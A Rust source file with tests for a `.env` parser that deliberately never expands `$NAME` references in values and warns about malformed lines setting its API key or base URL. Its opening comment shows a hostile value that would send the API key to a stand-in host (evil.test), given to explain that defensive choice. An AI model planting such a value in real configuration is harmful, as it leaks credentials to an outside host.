//! Reads `.env` files.
//!
//! Other parsers replace `$NAME` in values with environment variables. A hostile file could then set
//! `TFY_BASE_URL=https://evil.test/$TFY_API_KEY`. This parser never evaluates values.

use std::collections::HashMap;
use std::io;
use std::path::Path;

use super::{env, file};
use crate::untrusted::enumerate;

/// The variables in a `.env` file. It has no `Debug`, because it may contain an API key.
#[derive(Default)]
pub struct DotEnv {
    values: HashMap<String, String>,
    /// Warning about a file that cannot be used, or about malformed lines with a variable that this program reads.
    pub warning: Option<String>,
}

impl DotEnv {
    /// Reads the file. A missing file is empty; an unreadable file is empty and has a warning.
    pub fn read(path: &Path) -> Self {
        let parsed = file::read(path, false).and_then(|bytes| {
            let reason = "it is neither UTF-8 nor UTF-16 with a byte order mark";
            let text = decode(&bytes).ok_or_else(|| io::Error::other(reason))?;
            Ok(Self::parse(&text))
        });
        match parsed {
            Ok(file) => file,
            Err(error) if error.kind() == io::ErrorKind::NotFound => Self::default(),
            Err(error) => Self { warning: Some(format!("ignoring .env: {error}")), ..Self::default() },
        }
    }

    /// The value of a variable. If several lines set it, the last one counts.
    pub fn get(&self, name: &str) -> Option<&str> {
        self.values.get(name).map(String::as_str)
    }

    pub fn parse(text: &str) -> Self {
        let mut file = Self::default();
        let mut malformed: Vec<String> = Vec::new();
        let (mut rest, mut line_number) = (text, 1);
        while !rest.is_empty() {
            let (line, mut next) = split_line(rest);
            if let Some((name, value, after)) = assignment(rest) {
                file.values.insert(name.to_owned(), value.to_owned());
                next = after;
            } else if is_for_us(without_export(line)) {
                malformed.push(line_number.to_string());
            }
            line_number += rest[..rest.len() - next.len()].matches('\n').count();
            rest = next;
        }
        if !malformed.is_empty() {
            let lines = if malformed.len() == 1 { "line" } else { "lines" };
            file.warning = Some(format!("ignoring {lines} {} of .env: expected KEY=value", enumerate(&malformed)));
        }
        file
    }
}

/// Decodes UTF-8, or UTF-16 with a byte order mark, as PowerShell writes it. Removes that mark. A text in another encoding that
/// looks like one of them contains null characters.
fn decode(bytes: &[u8]) -> Option<String> {
    let from_units = |unit: fn([u8; 2]) -> u16| {
        let (units, rest) = bytes[2..].as_chunks();
        let units: Vec<u16> = units.iter().copied().map(unit).collect();
        String::from_utf16(&units).ok().filter(|_| rest.is_empty())
    };
    let text = match bytes {
        [0xff, 0xfe, ..] => from_units(u16::from_le_bytes),
        [0xfe, 0xff, ..] => from_units(u16::from_be_bytes),
        _ => std::str::from_utf8(bytes).ok().map(str::to_owned),
    };
    text.filter(|text| !text.contains('\0'))
}

/// Returns `true` if the line begins with a variable that this program reads, or sets one as YAML, PowerShell and other shells do.
/// Other lines cause no warning.
fn is_for_us(line: &str) -> bool {
    let is_comment = ["#", ";", "//"].iter().any(|mark| line.starts_with(mark));
    let sets = |name: &str, at: usize| {
        let (before, after) = (&line[..at], &line[at + name.len()..]);
        let is_part = |c: char| c.is_ascii_alphanumeric() || c == '_';
        let is_name = !before.ends_with(is_part) && !after.starts_with(is_part);
        is_name && (line.starts_with("set") || after.trim_start_matches(['"', '\'', ' ', '\t']).starts_with(['=', ':']))
    };
    let is_set = |name: &&str| line.starts_with(name) || line.match_indices(*name).any(|(at, _)| sets(name, at));
    !is_comment && [env::KEY].iter().chain(&env::BASE_URLS).any(is_set)
}

/// Parses `NAME=value` at the start of a text. Returns the name, the value and the text after that line. A quoted value may span
/// several lines, if only a comment follows it. Otherwise the other quote belongs to a later value.
fn assignment(text: &str) -> Option<(&str, &str, &str)> {
    let (line, next) = split_line(text);
    let (name, value) = line.split_once('=')?;
    let (name, value) = (without_export(name).trim_end(), value.trim_start());
    let is_name = !name.is_empty()
        && !name.starts_with(|c: char| c.is_ascii_digit())
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '.');
    if !is_name {
        return None;
    }
    let Some(quote @ ('"' | '\'')) = value.chars().next() else {
        let comment = if value.starts_with('#') { Some(0) } else { value.find(" #").or_else(|| value.find("\t#")) };
        return Some((name, value[..comment.unwrap_or(value.len())].trim_end(), next));
    };
    let opened = line.len() - value.len();
    let (value, after) = text[opened + 1..].split_once(quote)?;
    let (comment, next) = split_line(after);
    let is_comment = comment.trim().is_empty() || comment.trim_start().starts_with('#');
    is_comment.then_some((name, value, next))
}

/// Returns the first line of a text, and the text after it.
fn split_line(text: &str) -> (&str, &str) {
    text.split_once('\n').unwrap_or((text, ""))
}

/// Removes the whitespace and `export` before a name.
fn without_export(line: &str) -> &str {
    let line = line.trim_start();
    let exported = line.strip_prefix("export").filter(|rest| rest.starts_with([' ', '\t']));
    exported.map_or(line, str::trim_start)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn parse_reads_common_forms() {
        let file = DotEnv::parse(concat!(
            "# settings\r\n\nTFY_API_KEY = tfy_abc # mine\nexport TFY_BASE_URL=\"https://a.test\" # there\n",
            "SINGLE='a # b'\nEMPTY=\nTFY_API_KEY=tfy_def\nHASH=a#b\nPEM=\"one\ntwo\"\nLAST=x",
        ));
        let read = |name| file.get(name);
        assert_eq!(read("TFY_API_KEY"), Some("tfy_def"));
        assert_eq!(read("TFY_BASE_URL"), Some("https://a.test"));
        assert_eq!((read("SINGLE"), read("EMPTY"), read("HASH")), (Some("a # b"), Some(""), Some("a#b")));
        assert_eq!((read("PEM"), read("LAST")), (Some("one\ntwo"), Some("x")));
        assert_eq!(file.warning, None);
    }

    #[test]
    fn malformed_line_of_our_variable_warns() {
        let file = DotEnv::parse("A=1\nwhat is this\nexport TFY_HOST\nB='open\nTFY_API_KEY='open\nC=3\n");
        assert_eq!((file.get("A"), file.get("C")), (Some("1"), Some("3")));
        assert_eq!(file.warning.as_deref(), Some("ignoring lines 3, 5 of .env: expected KEY=value"));
        assert_eq!(DotEnv::parse("what is this\n=2\nB='open").warning, None);
    }

    #[test]
    fn line_of_other_dialect_warns() {
        for line in [
            "TFY_API_KEY: x",
            "  \"TFY_API_KEY\" : \"x\",",
            "set TFY_BASE_URL=x",
            "set -gx TFY_HOST x",
            "setx TFY_HOST x",
            "$env:TFY_API_KEY = \"x\"",
            "- TFY_API_KEY=x",
        ] {
            assert!(DotEnv::parse(line).warning.is_some(), "{line}");
        }
        for line in
            ["# set TFY_HOST=x", "; TFY_HOST=x", "// TFY_HOST: x", "MY_TFY_HOST: x", "see TFY_HOST", "A=$TFY_HOST=x"]
        {
            assert_eq!(DotEnv::parse(line).warning, None, "{line}");
        }
    }

    #[test]
    fn unclosed_quote_swallows_no_other_line() {
        let file = DotEnv::parse("A=\"open\nTFY_API_KEY=\"tfy_a\"\nB=\"b\"\nC='one\ntwo' # c\n");
        assert_eq!((file.get("A"), file.get("TFY_API_KEY")), (None, Some("tfy_a")));
        assert_eq!((file.get("B"), file.get("C")), (Some("b"), Some("one\ntwo")));
    }

    #[test]
    fn utf16_is_decoded() {
        for (mark, bytes) in [(u16::to_le_bytes as fn(u16) -> [u8; 2]), u16::to_be_bytes].map(|bytes| (0xfeff, bytes)) {
            let units = [mark].into_iter().chain("A=é\r\n".encode_utf16());
            let file: Vec<u8> = units.flat_map(bytes).collect();
            assert_eq!(decode(&file).as_deref(), Some("A=é\r\n"));
            assert_eq!(decode(&file[..file.len() - 1]), None);
        }
    }

    proptest! {
        #[test]
        fn any_text_is_parsed_without_panic(text in any::<String>(), lines in "([A-Z'\"=# \n]{0,60})") {
            let _ = DotEnv::parse(&text);
            let _ = DotEnv::parse(&lines);
        }
    }
}
